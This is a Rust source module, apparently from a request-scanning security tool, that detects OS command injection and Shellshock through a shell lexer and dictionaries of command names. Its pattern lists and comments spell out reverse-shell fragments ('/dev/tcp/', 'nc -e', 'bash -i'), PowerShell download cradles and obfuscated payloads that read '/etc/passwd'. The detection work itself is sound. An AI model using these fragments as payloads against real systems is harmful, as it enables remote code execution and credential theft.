//! OS command injection (Unix shells, Windows cmd and PowerShell) and Shellshock.
//!
//! A small shell lexer looks for the places where a new command can start (`;`, `|`,
//! `||`, `&`, `&&`, newline, backticks, `$(`, `<(`), reads the next word the way a shell
//! would (dropping quotes, backslashes, empty expansions such as `$@` or `${x}`, treating
//! `${IFS}` as a blank) and checks it against a dictionary of commands. Words that are
//! also common English (`cat`, `id`, `type`) must carry shell-looking arguments or end
//! the value; rare ones (`whoami`, `wget`) are enough alone. Free text in bodies counts
//! less, since prose uses `;` and `&`.

mod code;
mod expansion;

use super::gate::Triggers;
use super::textscan::{find_ci, hit, push_once, snippet};
use super::{Hit, Part, Value};

const CLASS: &str = "rce";
const MAX_BYTES: usize = 8192;
/// Command-start positions examined per value.
const MAX_STARTS: usize = 128;

/// Commands whose name alone after a separator is proof (rare as English words).
const STRONG: &[&str] = &[
    "whoami", "uname", "ifconfig", "ipconfig", "nslookup", "netstat", "systeminfo", "tasklist",
    "taskkill", "powershell", "pwsh", "certutil", "bitsadmin", "wget", "curl", "ncat", "netcat",
    "nc", "bash", "sh", "zsh", "ksh", "csh", "tcsh", "dash", "busybox", "python", "python2",
    "python3", "perl", "ruby", "php", "lua", "telnet", "chmod", "chown", "crontab", "useradd",
    "usermod", "sudo", "nohup", "xxd", "base64", "wmic", "rundll32", "regsvr32", "mshta",
    "cscript", "wscript", "msiexec", "getent", "lsof", "traceroute", "tracert", "tftp", "socat",
    "nmap", "gcc", "cmd", "printenv", "uptime", "hostname", "ifup", "iptables", "passwd",
    "sysctl", "dmesg", "lspci", "killall", "pkill", "mkfifo", "mknod", "openssl", "xterm",
    "pwd", "ls", "id", "net1", "schtasks", "reg", "vssadmin", "icacls", "cacls", "findstr",
    "chcp", "arp", "route", "nbtstat", "qwinsta", "quser", "runas", "timeout", "ping", "netsh",
    "net.exe", "whoami.exe", "ifconfig.exe", "powershell_ise", "sysinfo", "irb", "gdb", "perf",
    "flock", "ansible", "ansible-playbook", "ansible-console", "ansible-doc", "ansible-inventory",
    "ansible-vault", "ansible-galaxy", "chef-client", "chef-shell", "chef-solo", "cscli", "visudo",
    "htop", "strace", "ltrace", "tcpdump", "nsenter", "unshare", "kubectl", "crictl", "runc",
    "tmux", "gawk", "nawk", "mawk", "rsync", "setarch", "taskset", "stdbuf", "ssh-keygen",
    "pkexec", "doas", "capsh", "chroot", "start-stop-daemon", "php-cgi", "jjs", "jrunscript",
    "nodejs", "deno", "luajit", "tclsh", "rlwrap", "rview", "rvim", "mutt", "composer", "ftp",
    "sftp", "smbclient", "rpcclient", "mysqldump", "pg_dump", "sqlite3", "xxd", "hexdump",
    "aa-disable", "aa-exec", "setcap", "getcap", "chattr", "lsattr", "dpkg", "rpm", "apt-get",
    "logger", "journalctl", "systemd-run", "nproc",
    "lscpu", "lsblk", "blkid", "fdisk", "mkfs", "modprobe", "insmod", "rmmod", "lsmod",
    "regedit", "bcdedit", "bcdboot", "iwr", "iwmi", "cpulimit", "aptitude", "bsdtar", "ansible-config",
    "ansible-pull", "diskpart", "cipher", "wevtutil", "fsutil", "auditpol", "gunzip", "zcat", "zstdcat", "bzcat",
    "xzcat", "zgrep", "zless", "zmore", "lzcat", "unxz", "unlzma", "bunzip2", "unzstd", "uncompress", "zstdgrep", "xzgrep", "bzgrep",
    // GTFOBins: binaries that run a shell, read files or open sockets for an attacker.
    "c89", "c99", "rmt", "rmt-tar", "rmt-dump", "lastlog", "lastb", "chef-vault", "chef-run", "chef-apply", "knife",
    "base32", "basenc", "bpftrace", "busctl", "cobc", "cpan", "csplit", "dmidecode", "dmsetup", "dstat", "easy_install",
    "exiftool", "hping3", "ldconfig", "lftp", "loginctl", "logsave", "lwp-download", "lwp-request", "minicom",
    "msfconsole", "msfvenom", "nasm", "ncftp", "neofetch", "nft", "openvpn", "openvt", "pdflatex", "pidstat", "psftp",
    "readelf", "rpmquery", "rpmdb", "rpmverify", "run-parts", "run-mailcap", "scanmem", "setfacl", "getfacl", "sshpass",
    "ssh-keyscan", "ssh-agent", "ssh-copy-id", "tshark", "torify", "torsocks", "unsquashfs", "uudecode", "uuencode",
    "varnishncsa", "vipw", "vigr", "virsh", "xdotool", "xmodmap", "zypper", "tdbtool", "systemd-resolve", "timedatectl",
    "update-alternatives", "mysqladmin", "dnf", "opkg", "gcore", "genisoimage", "ghci", "ginsh", "ionice", "ksshell",
    "ksu", "lualatex", "luatex", "msgfilter", "multitime", "nroff", "pexec", "rtorrent", "setlock", "slsh", "softlimit",
    "sqlmap", "tasksh", "tmate", "vimdiff", "xelatex", "xetex", "yash", "zsoelim", "choom", "cupsfilter", "csvtool",
    "debugfs", "dosbox", "dvips", "efax", "elvish", "enscript", "espeak", "iftop", "latexmk", "mosquitto", "msgattrib",
    "msgcat", "msgconv", "msgmerge", "msguniq", "redcarpet", "restic", "runscript", "soelim", "byebug", "aa-enforce",
    "aa-complain", "aa-status", "apparmor_parser", "check_by_ssh", "check_log", "check_raid", "check_ssl_cert",
    "uconv", "pipx", "adduser", "addgroup", "deluser", "delgroup", "chpasswd", "gpasswd", "newgrp",
];

/// Strong names that no prose uses (beyond hyphenated and numbered ones): after a
/// separator any argument will do.
const DISTINCT: &[&str] = &[
    "whoami", "ifconfig", "ipconfig", "nslookup", "netstat", "systeminfo", "tasklist", "taskkill", "certutil",
    "bitsadmin", "cscli", "visudo", "bsdtar", "lastlog", "ansible", "rmt", "busybox", "crontab", "useradd", "usermod",
    "getent", "iptables", "sysctl", "dmesg", "mkfifo", "nsenter", "kubectl", "crictl", "setarch", "taskset", "stdbuf",
    "pkexec", "capsh", "vssadmin", "icacls", "schtasks", "wevtutil", "fsutil", "auditpol", "bcdedit", "bcdboot",
    "wmic", "rundll32", "regsvr32", "mshta", "cscript", "wscript", "msiexec", "powershell", "knife", "tshark",
    "msfconsole", "msfvenom", "sshpass", "virsh", "zypper", "busctl", "loginctl", "ldconfig", "dmidecode",
];

/// Reconnaissance commands that, as the whole value, are a command and nothing else.
/// (`uname` alone is also a user-name field's name.)
const RECON: &[&str] = &["whoami", "ifconfig", "ipconfig", "netstat", "systeminfo", "tasklist"];

/// Commands that are also English words: need shell-looking arguments.
const WEAK: &[&str] = &[
    "cat", "echo", "sleep", "type", "dir", "set", "more", "less", "find", "kill", "sort", "head",
    "tail", "net", "ver", "vol", "rm", "cp", "mv", "touch", "mkdir", "grep", "egrep", "awk",
    "sed", "ps", "who", "du", "df", "dig", "host", "whois", "cd", "call", "start", "exit",
    "expr", "eval", "exec", "export", "unset", "time", "wait", "tee", "uniq", "wc", "od",
    "strings", "file", "which", "whereis", "locate", "last", "finger", "mail", "date", "history",
    "alias", "read", "printf", "shutdown", "reboot", "halt", "su", "sc", "del", "copy", "move",
    "ren", "attrib", "tree", "env", "nl", "rev", "tac", "cut", "xargs", "chdir", "systemctl",
    "service", "kill", "ln", "tar", "zip", "unzip", "gzip", "mysql", "psql", "java", "node",
    "scp", "ssh", "ftp", "rcp", "rsh", "rlogin", "true", "false", "test", "print", "diff",
    "users", "groups", "w", "system", "shell", "pause", "cls", "erase", "rd", "rmdir", "md",
    "mount", "umount", "fdisk", "dd", "apt", "yum", "pip", "npm", "git", "make", "vi", "vim",
    "nano", "top", "free", "whatis", "man", "info", "jobs", "bg", "fg", "disown", "trap",
    "source", "logout", "chgrp", "stat", "readlink", "realpath", "basename", "dirname", "seq",
    "bc", "factor", "yes", "sum", "cksum", "md5sum", "sha1sum", "sha256sum",
    // GTFOBins that are also words.
    "column", "fold", "bridge", "comm", "paste", "shuf", "screen", "ss", "jq", "xz", "bzip2", "cpio", "pax",
];

/// File names that, as a command's argument, are what an attacker reads.
const SENSITIVE_ARGS: &[&str] = &["passwd", "shadow", "sudoers", "id_rsa", "authorized_keys", ".bash_history", ".htpasswd", "master.passwd", "gshadow"];

/// Cmdlet verbs: `Verb-Noun` after a separator is PowerShell.
const PS_VERBS: &[&str] = &[
    "get-", "set-", "invoke-", "new-", "start-", "remove-", "add-", "out-", "write-", "read-",
    "copy-", "move-", "stop-", "test-", "convertto-", "convertfrom-", "import-", "export-",
];

/// Fragments that are shell/PowerShell invocations wherever they appear.
const INVOCATIONS: &[&str] = &[
    "/bin/sh", "/bin/bash", "/bin/zsh", "/bin/ksh", "/bin/dash", "/bin/busybox", "/usr/bin/env ",
    "/bin/nc ", "/dev/tcp/", "/dev/udp/", "${shell}", "$shell -c", "$shell<<<", "cmd.exe", "cmd /c", "cmd/c", "cmd /k", "command.com",
    "powershell.exe", "powershell -", "powershell+-", "pwsh -", "invoke-expression",
    "invoke-webrequest", "downloadstring(", "downloadfile(", "net.webclient", "-encodedcommand",
    "frombase64string(", "iex(", "iex (", "start-process", "bash -i", "bash -c", "sh -c ",
    "sh -i", "nc -e", "nc -l", "ncat -e", "mkfifo /tmp", "python -c", "python3 -c", "perl -e",
    "ruby -e", "php -r", "%comspec%", "$env:comspec", "system32\\cmd", "/system32/cmd",
    "wscript.shell", "shell.application", "process.start(",
    // An argv written with commas (GTFOBins `-wrapper sh,-c,id`, `find -exec`-style lists).
    "sh,-c,", "bash,-c,", "sh,-i,", "bash,-i,", "sh,-c ", "bash,-c ",
];

/// What a value must contain for any rule of this class to match (see `gate`): add a
/// trigger here with every new rule.
///
/// - bytes: expansions and obfuscation the word reader undoes (`$`, `\\` and the C escapes,
///   `[u]` globs, `{a,b}` braces, `?`/`*` globs, backticks);
/// - literals: invocation fragments, Node.js, cmdlet verbs, SSI, redirections, the
///   expansion rules' markers, process-API modules, versioned interpreters;
/// - words: reconnaissance commands alone, cmd.exe `IF`/`FOR`;
/// - `command_start`: a known command word where the separator and leading-command rules
///   read one (the same reader, at the same places).
pub const TRIGGERS: Triggers = Triggers {
    bytes: b"$\\[{?*`",
    anywhere: &[
        INVOCATIONS,
        NODE_JS,
        PS_VERBS,
        WINDOWS_ENV_VARS,
        &[
            "<!--#", "<<<", "2>&1", ">/dev/null", "> /dev/null", ">&/dev/", "</dev/", "/tcp/", "/udp/", "()", "!-", "~+",
            "~-", "alias", "console", "__js_function", "__import__",
        ],
        // `python3.10`, `php7.4`: interpreters with a version glued on (see `command_at`).
        &["python", "perl", "php", "ruby", "lua", "node", "gcc", "pip", "java", "bash"],
    ],
    words: &[RECON, &["if", "for"], code::MODULES],
    custom: Some(|v| command_start(v.text)),
    ..Triggers::NONE
};

/// The gate's condition for the separator and leading-command rules: a known command word
/// (`command_at`) right after a separator, or opening a value that has room for arguments.
/// (Backticks, `$(..)`, escapes and obfuscation are the byte triggers' part.)
fn command_start(full: &str) -> bool {
    let t = full.get(..super::textscan::floor_char(full, MAX_BYTES)).unwrap_or(full);
    let s = t.as_bytes();
    let quoted = matches!(s.first(), Some(b'\'' | b'"'));
    if (leading_room(s) || quoted) && command_at(s, usize::from(quoted)).is_some() {
        return true;
    }
    let mut starts = 0;
    let mut i = 0;
    while let Some(off) = s.get(i..).and_then(|r| r.iter().position(|&c| separator_byte(c) && c != b'`' && c != b'$')) {
        let at = i + off;
        if starts >= MAX_STARTS {
            return true;
        }
        starts += 1;
        match separator_at(s, at) {
            Some((_, next)) => {
                if command_at(s, next).is_some() {
                    return true;
                }
                i = next.max(at + 1);
            }
            None => i = at + 1,
        }
    }
    false
}

/// Windows environment variables naming system locations.
const WINDOWS_ENV_VARS: &[&str] = &["%systemroot%", "%windir%", "%comspec%", "%programfiles%", "%systemdrive%", "%userprofile%", "%appdata%", "%temp%", "%homedrive%"];

/// Bytes at which `separator_at` can find a command start.
fn separator_byte(c: u8) -> bool {
    matches!(c, b'`' | b'$' | b'<' | b'>' | b';' | b'\n' | b'\r' | b'|' | b'&')
}

/// A place where a new command can start at `i` (`;`, `|`, `||`, `&`, `&&`, newline,
/// backtick, `$(`, `<(`, `>(`): its kind and where the command word begins.
fn separator_at(s: &[u8], i: usize) -> Option<(Sep, usize)> {
    Some(match s.get(i).copied()? {
        b'`' => (Sep::Subst, i + 1),
        b'$' if s.get(i + 1) == Some(&b'(') && s.get(i + 2) != Some(&b'(') => (Sep::Subst, i + 2),
        b'<' | b'>' if s.get(i + 1) == Some(&b'(') => (Sep::Subst, i + 2),
        // The `;` that ends an HTML character reference (`a&#x2e;net`, `&amp;`) separates
        // nothing: in a shell the `&` would background and `#` start a comment.
        b';' if ends_char_ref(s, i) => return None,
        b';' => (Sep::Chain, i + 1),
        b'\n' | b'\r' => (Sep::Newline, i + 1),
        b'|' => (Sep::Chain, if s.get(i + 1) == Some(&b'|') { i + 2 } else { i + 1 }),
        b'&' => (Sep::Chain, if s.get(i + 1) == Some(&b'&') { i + 2 } else { i + 1 }),
        _ => return None,
    })
}

/// Whether the `;` at `i` closes an HTML character reference: `&#123;`, `&#x7b;`, `&lt;`.
fn ends_char_ref(s: &[u8], i: usize) -> bool {
    let head = s.get(..i).unwrap_or_default();
    let body_len = head.iter().rev().take_while(|c| c.is_ascii_alphanumeric()).count();
    if body_len == 0 || body_len > 10 {
        return false;
    }
    let start = i - body_len;
    let body = s.get(start..i).unwrap_or_default();
    match (start.checked_sub(2).and_then(|k| s.get(k..start)), start.checked_sub(1).and_then(|k| s.get(k))) {
        (Some(b"&#"), _) => body.iter().all(u8::is_ascii_digit) || body.first().is_some_and(|c| matches!(c, b'x' | b'X')) && body.get(1..).is_some_and(|h| !h.is_empty() && h.iter().all(u8::is_ascii_hexdigit)),
        (_, Some(b'&')) => body.len() >= 2 && body.iter().all(u8::is_ascii_alphabetic),
        _ => false,
    }
}

/// Words of a cmd.exe `IF` condition (`batch_statement`).
const BATCH_IF_WORDS: &[&str] = &["exist", "defined", "errorlevel", "cmdextversion", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq ", "+equ+", "+gtr+", "+lss+"];

/// Server-side JavaScript (Node.js) code-execution fragments.
const NODE_JS: &[&str] = &[
    "_$$nd_func$$_", "__js_function", "constructor.constructor", "child_process", "process.mainmodule",
    "process.binding(", "global.process", "module.constructor._load", "process.dlopen(",
    // Sandbox escapes and dynamic code: bracket access to the process and loader, the
    // `Function` constructor, char-code strings evaluated, exports rewritten.
    "process[", "require[", "process.env[", "new function(", "new function (", "eval(string.fromcharcode",
    "module.exports=", "module.exports =", "constructor:constructor",
];

/// `console.info(1)`, `console["log"](x)`, `console.log.call(this, 1)`: server-side
/// JavaScript probing with the console.
fn console_call(t: &str) -> Option<usize> {
    let at = find_ci(t, "console")?;
    let rest = t.get(at + 7..)?;
    let rest = if let Some(r) = rest.strip_prefix('.') {
        r
    } else {
        rest.strip_prefix("[\"").or_else(|| rest.strip_prefix("['"))?
    };
    let name_len = rest.bytes().take_while(u8::is_ascii_alphabetic).count();
    let method = rest.get(..name_len)?.to_ascii_lowercase();
    if !matches!(method.as_str(), "log" | "info" | "warn" | "error" | "debug" | "trace" | "dir" | "table" | "assert") {
        return None;
    }
    let after = rest.get(name_len..)?.trim_start_matches(['"', '\'', ']']);
    let after = after.strip_prefix(".call").or_else(|| after.strip_prefix(".apply")).unwrap_or(after);
    (super::textscan::word_start(t.as_bytes(), at) && after.starts_with('(')).then_some(at)
}

/// Per-value scan: the text as given and, when it holds C-style escapes (`\n`, `\r`,
/// `\t`, `\033[2A`), the text those escapes stand for.
pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
    let full = v.text;
    let t = full.get(..super::textscan::floor_char(full, MAX_BYTES)).unwrap_or(full);
    if t.is_empty() {
        return;
    }
    let since = out.len();
    scan_text(v, t, out, since);
    // `a=/etc&&c=cat&&$c $a/passwd`: the text with the value's own variables expanded.
    if let Some(u) = expand_assignments(t) {
        let mut more = Vec::new();
        scan_text(v, &u, &mut more, 0);
        for h in more {
            if !out.iter().skip(since).any(|o| o.rule == h.rule && o.score >= h.score) {
                out.retain(|o| o.rule != h.rule);
                out.push(h);
            }
        }
    }
    if let Some(u) = c_unescape(t) {
        let mut more = Vec::new();
        scan_text(v, &u, &mut more, 0);
        for h in more {
            // Keep the stronger of two hits of one rule.
            match out.iter_mut().skip(since).find(|o| o.rule == h.rule) {
                Some(o) if o.score < h.score => *o = h,
                Some(_) => {}
                None => out.push(h),
            }
        }
    }
}

/// The text with `$name`/`${name}` replaced by the values the text itself assigns
/// (`name=value` opening a command: at the start or after `;`, `&`, `|`, a newline), if it
/// assigns and uses any. Values end at a blank or separator; quotes and backslashes are
/// undone (`c4=\ ` is a blank).
fn expand_assignments(t: &str) -> Option<String> {
    let s = t.as_bytes();
    if !s.contains(&b'$') || !s.contains(&b'=') {
        return None;
    }
    let mut vars: Vec<(&[u8], Vec<u8>)> = Vec::new();
    let mut i = 0;
    while i < s.len() && vars.len() < 32 {
        let opens = i == 0 || s.get(i - 1).is_some_and(|c| matches!(c, b';' | b'&' | b'|' | b'\n' | b'\r' | b' ' | b'\t' | b'+'));
        let ident_start = s.get(i).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_');
        if !opens || !ident_start {
            i += 1;
            continue;
        }
        let n0 = i;
        while s.get(i).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_') {
            i += 1;
        }
        if s.get(i) != Some(&b'=') || i - n0 > 32 {
            continue;
        }
        let name = s.get(n0..i).unwrap_or_default();
        i += 1;
        let mut val = Vec::new();
        while let Some(&c) = s.get(i) {
            match c {
                b'\\' => {
                    if let Some(&n) = s.get(i + 1) {
                        val.push(n);
                    }
                    i += 2;
                }
                b'\'' | b'"' => i += 1,
                b' ' | b'\t' | b';' | b'&' | b'|' | b'\n' | b'\r' | b'+' => break,
                _ => {
                    val.push(c);
                    i += 1;
                }
            }
            if val.len() > 64 {
                break;
            }
        }
        vars.retain(|(n, _)| *n != name);
        vars.push((name, val));
    }
    if vars.is_empty() {
        return None;
    }
    let mut out: Vec<u8> = Vec::with_capacity(s.len() + 64);
    let mut used = false;
    let mut i = 0;
    while let Some(&c) = s.get(i) {
        if c == b'$' && out.len() < 2 * MAX_BYTES {
            let braced = s.get(i + 1) == Some(&b'{');
            let n0 = i + 1 + usize::from(braced);
            let mut e = n0;
            while s.get(e).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_') {
                e += 1;
            }
            let closed = !braced || s.get(e) == Some(&b'}');
            if let Some((_, val)) = vars.iter().find(|(n, _)| closed && s.get(n0..e) == Some(*n)) {
                out.extend_from_slice(val);
                used = true;
                i = e + usize::from(braced);
                continue;
            }
        }
        out.push(c);
        i += 1;
    }
    if !used {
        return None;
    }
    String::from_utf8(out).ok()
}

/// The text with C-style escapes undone, if it has any: `\n` `\r` `\t` as blanks and
/// line breaks, `\0`, `\e`, `\033`, `\x1b` as ESC, `` \` `` as a backtick; ANSI control
/// sequences (`ESC [ 2 A`) are dropped. Payload lists write separators this way.
fn c_unescape(t: &str) -> Option<String> {
    let b = t.as_bytes();
    let any = memchr::memchr_iter(b'\\', b).any(|i| matches!(b.get(i + 1), Some(b'n' | b'r' | b't' | b'0' | b'e' | b'`')) || b.get(i + 1..i + 4) == Some(b"x1b"));
    if !any {
        return None;
    }
    let mut out: Vec<u8> = Vec::with_capacity(b.len());
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        if c != b'\\' {
            out.push(c);
            i += 1;
            continue;
        }
        let (rep, used): (Option<u8>, usize) = match b.get(i + 1) {
            Some(b'n') => (Some(b'\n'), 2),
            Some(b'r') => (Some(b'\r'), 2),
            Some(b't') => (Some(b'\t'), 2),
            Some(b'`') => (Some(b'`'), 2),
            Some(b'e') => (Some(0x1b), 2),
            Some(b'0') if b.get(i + 2..i + 4) == Some(b"33") => (Some(0x1b), 4),
            Some(b'0') => (None, 2),
            Some(b'x') if b.get(i + 2..i + 4).is_some_and(|h| h.eq_ignore_ascii_case(b"1b")) => (Some(0x1b), 4),
            _ => (Some(b'\\'), 1),
        };
        i += used;
        match rep {
            // ESC `[` parameters, one final byte: a terminal control sequence.
            Some(0x1b) if b.get(i) == Some(&b'[') => {
                i += 1;
                while b.get(i).is_some_and(|c| c.is_ascii_digit() || *c == b';') {
                    i += 1;
                }
                if b.get(i).is_some_and(|c| c.is_ascii_uppercase()) {
                    i += 1;
                }
            }
            Some(0x1b) => {}
            Some(r) => out.push(r),
            None => {}
        }
    }
    String::from_utf8(out).ok()
}

fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
    let s = t.as_bytes();
    let prose = is_prose(v);
    let (sc_score, sc_pl) = if prose { (3, 2) } else { (5, 1) };

    // Shellshock: a function definition at the start of a value (headers, usually); the
    // blanks may be any filler bash skips or a layer rewrote (`().{.:;.};`).
    let trimmed = t.trim_start_matches([' ', '\t', '"', '\'']);
    if let Some(rest) = trimmed.strip_prefix("()") {
        let filler = rest.bytes().take_while(|c| matches!(c, b' ' | b'\t' | b'.' | b'+' | b'\n')).count();
        let canonical = rest.starts_with(" {") || rest.starts_with('{');
        if filler <= 4 && rest.as_bytes().get(filler) == Some(&b'{') && (canonical || rest.get(filler..).is_some_and(|r| r.get(..16).unwrap_or(r).contains(';'))) {
            push_once(out, since, hit("rce.shellshock", CLASS, 5, 1, snippet(trimmed, 0, 80)));
        }
    }

    // A value that is nothing but a reconnaissance command (`whoami`, `ipconfig`).
    let bare = t.trim_matches(|c: char| c.is_ascii_whitespace() || matches!(c, '\'' | '"' | '`'));
    if v.part != Part::ArgName && bare.len() <= 16 && RECON.iter().any(|r| bare.eq_ignore_ascii_case(r) || bare.len() == r.len() + 4 && bare.get(..r.len()).is_some_and(|h| h.eq_ignore_ascii_case(r)) && bare.get(r.len()..).is_some_and(|x| x.eq_ignore_ascii_case(".exe"))) {
        push_once(out, since, hit("rce.bare-command", CLASS, 5, 1, snippet(t, 0, 40)));
    }

    // Quick exit: no shell metacharacter and no invocation fragment.
    let has_meta = s.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{' | b'%' | b'\'' | b'"' | b'<' | b'\\' | b'~' | b'['));
    if !has_meta && !t.contains('/') && !t.contains('-') && !t.contains('.') && !t.contains(':') {
        // Words only: at most a command line of words (`which nc`, `net view`, `sleep 5`)
        // or a cmd.exe statement (`IF EXIST x GOTO y`).
        if t.contains(' ') || t.contains('+') {
            leading_command(t, prose, out, since);
            if let Some((score, at)) = batch_statement(t) {
                push_once(out, since, hit("rce.windows-batch", CLASS, score, 1, snippet(t, at, at + 80)));
            }
            alias(t, out, since);
        }
        // funcster's serialised-function marker, as a bare word.
        if let Some(at) = find_ci(t, "__js_function") {
            push_once(out, since, hit("rce.node-js", CLASS, 5, 1, snippet(t, at, at + 40)));
        }
        return;
    }

    // Shell invocations and Node.js code execution, in one automaton pass.
    static INVOCATIONS_AC: std::sync::OnceLock<Option<aho_corasick::AhoCorasick>> = std::sync::OnceLock::new();
    let ac = INVOCATIONS_AC.get_or_init(|| {
        let all: Vec<&str> = INVOCATIONS.iter().chain(NODE_JS.iter()).copied().collect();
        super::textscan::automaton(&all)
    });
    if let Some(ac) = ac {
        let (mut shell, mut node) = (false, false);
        for m in ac.find_overlapping_iter(s).take(16) {
            let at = m.start();
            let idx = m.pattern().as_usize();
            if let Some(frag) = INVOCATIONS.get(idx) {
                // `sh -c`-like fragments need a word boundary before them.
                if shell || frag.starts_with(|c: char| c.is_ascii_alphabetic()) && !super::textscan::word_start(s, at) {
                    continue;
                }
                shell = true;
                let (score, pl) = if prose { (3, 2) } else { (5, 1) };
                push_once(out, since, hit("rce.shell-invocation", CLASS, score, pl, snippet(t, at, at + 80)));
            } else if !node {
                // Node.js: node-serialize's function marker, sandbox escapes through
                // `constructor.constructor`, the `child_process` module.
                node = true;
                push_once(out, since, hit("rce.node-js", CLASS, 5, 1, snippet(t, at, at + 80)));
            }
            if shell && node {
                break;
            }
        }
    }

    // Shell expansions that build commands and paths without spelling them.
    if !prose {
        let found = [
            ("rce.bracket-glob-path", expansion::bracket_glob_path(s)),
            ("rce.parameter-expansion", expansion::parameter_expansion(s)),
            ("rce.arithmetic-expansion", expansion::arithmetic_expansion(s)),
            ("rce.dev-socket", expansion::dev_socket(s)),
            ("rce.history-expansion", expansion::history_expansion(s)),
            ("rce.tilde-expansion", expansion::tilde_expansion(s)),
        ];
        for (rule, at) in found {
            if let Some(at) = at {
                push_once(out, since, hit(rule, CLASS, 5, 1, snippet(t, at, at + 60)));
            }
        }
    }
    // Process APIs of scripting languages (`Process.spawn("id")`, `os.popen(..)`).
    if let Some(at) = code::process_api_call(t) {
        let (score, pl) = if prose { (3, 2) } else { (5, 1) };
        push_once(out, since, hit("rce.process-api", CLASS, score, pl, snippet(t, at, at + 80)));
    }

    if let Some(at) = console_call(t).filter(|_| !prose) {
        push_once(out, since, hit("rce.node-js", CLASS, 5, 1, snippet(t, at, at + 60)));
    }

    if has_ifs(t) {
        push_once(out, since, hit("rce.ifs", CLASS, 5, 1, snippet(t, find_ci(t, "ifs").unwrap_or(0).saturating_sub(4), 80)));
    }

    // Command starts after separators and inside substitutions.
    let mut starts = 0;
    let mut i = 0;
    while i < s.len() && starts < MAX_STARTS {
        // The next byte that can open a command (see `separator_at`).
        let Some(off) = s.get(i..).and_then(|r| r.iter().position(|&c| separator_byte(c))) else { break };
        i += off;
        let b = s.get(i).copied().unwrap_or(0);
        let Some((kind, next)) = separator_at(s, i) else {
            i += 1;
            continue;
        };
        starts += 1;
        if let Some(cmd) = command_at(s, next) {
            let ok = match (kind, cmd.strength) {
                (_, Strength::Glob) => true,
                (Sep::Subst, _) => {
                    cmd.args_shellish || cmd.strength == Strength::Strong || cmd.ends_value || cmd.then_close || cmd.then_separator || {
                        let close = if b == b'`' { b'`' } else { b')' };
                        s.get(cmd.end..).is_some_and(|r| r.iter().take(120).any(|&c| c == close))
                    }
                }
                // Structured headers (`User-Agent: (X11; U; id)`) use `;` as a list
                // separator: only real arguments count there, unless the value opens
                // with the separator (`;env`), which no header syntax does.
                _ if v.part == Part::Header && !at_value_start(s, i) => cmd.args_shellish || cmd.obfuscated,
                (_, Strength::Strong) => cmd.args_shellish || cmd.ends_value || cmd.then_separator || cmd.obfuscated || cmd.distinct && !prose,
                (_, Strength::Weak) => cmd.args_shellish || cmd.ends_value || cmd.obfuscated && !prose,
            };
            // `a&b=c` in a raw form body is a parameter, not a command.
            if ok {
                let ev = snippet(t, i, cmd.end.max(i + 1) + 40);
                let (score, pl) = match kind {
                    Sep::Newline if prose => (2, 3),
                    Sep::Newline => (5, 1),
                    _ => (sc_score, sc_pl),
                };
                let rule = if kind == Sep::Subst { "rce.substitution" } else { "rce.command-chain" };
                push_once(out, since, hit(rule, CLASS, score, pl, ev));
            }
        }
        i = next.max(i + 1);
    }

    // `/???/c?t`, `/e*?/p*d` as an argument anywhere: a path spelled with shell globs so
    // that no file name appears.
    if !prose && memchr::memchr(b'?', s).is_some() {
        let mut from = 0;
        let mut tried = 0;
        while let Some(at) = s.get(from..).and_then(|r| memchr::memchr(b'/', r)).map(|o| o + from) {
            from = at + 1;
            let prev = if at == 0 { None } else { s.get(at - 1).copied() };
            if !matches!(prev, None | Some(b' ' | b'\t' | b',' | b'\'' | b'"' | b'=' | b'(' | b'{' | b'+' | b';' | b'|' | b'&' | b'`' | b'\n')) {
                continue;
            }
            tried += 1;
            if tried > 16 {
                break;
            }
            let (word, _) = read_word(s, at);
            let segs: Vec<&str> = word.split('/').filter(|x| !x.is_empty()).collect();
            if glob_path(&word) && word.contains('?') && segs.iter().all(|x| x.contains(['?', '*'])) {
                push_once(out, since, hit("rce.glob-path", CLASS, 5, 1, snippet(t, at, at + 60)));
                break;
            }
        }
    }

    // Bash brace expansion that spells a command line (`{l,-lh}s`, `{,ifconfig}`,
    // `{cat,/etc/passwd}`).
    if !prose && memchr::memchr(b'{', s).is_some() {
        if let Some(at) = brace_command(s) {
            push_once(out, since, hit("rce.brace-expansion", CLASS, 5, 1, snippet(t, at, at + 60)));
        }
    }
    leading_command(t, prose, out, since);

    // cmd.exe control flow: `FOR /F "..." %%G IN (...) DO ...`, `IF [NOT] EXIST x cmd`.
    if let Some((score, at)) = batch_statement(t) {
        push_once(out, since, hit("rce.windows-batch", CLASS, score, 1, snippet(t, at, at + 80)));
    }

    alias(t, out, since);

    // Server-side includes.
    if let Some(at) = super::textscan::find_lit!(s, b"<!--#") {
        let d = t.get(at + 5..).unwrap_or_default().trim_start().to_ascii_lowercase();
        let (score, ok) = if d.starts_with("exec") || d.starts_with("include") || d.starts_with("fsize") || d.starts_with("flastmod") {
            (5, true)
        } else if d.starts_with("echo") || d.starts_with("printenv") || d.starts_with("config") || d.starts_with("set") {
            // A complete directive (attributes or the comment close) leaks the server's
            // environment or changes its output; a bare word after `<!--#` stays weak.
            let word_end = d.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(d.len());
            let rest = d.get(word_end..).unwrap_or_default().trim_start();
            let complete = rest.starts_with("-->") || ["var=", "errmsg=", "timefmt=", "sizefmt=", "echomsg=", "value="].iter().any(|a| rest.starts_with(a));
            (if complete { 5 } else { 3 }, true)
        } else {
            (0, false)
        };
        if ok {
            push_once(out, since, hit("rce.ssi-directive", CLASS, score, 1, snippet(t, at, at + 80)));
        }
    }
    // Windows environment variables naming system locations.
    for var in if t.contains('%') { WINDOWS_ENV_VARS } else { &[][..] } {
        if let Some(at) = find_ci(t, var) {
            push_once(out, since, hit("rce.windows-env-var", CLASS, 3, 1, snippet(t, at, at + 60)));
            break;
        }
    }
    // Here-strings fed to a shell (`$0<<<$'\\x69\\x64'`).
    for frag in if super::textscan::find_lit!(s, b"<<<").is_some() { &["$0<<<", "$0 <<<", "sh<<<", "bash<<<", "sh <<<", "bash <<<"][..] } else { &[][..] } {
        if let Some(at) = memchr::memmem::find(s, frag.as_bytes()) {
            push_once(out, since, hit("rce.shell-invocation", CLASS, 5, 1, snippet(t, at, at + 60)));
            break;
        }
    }

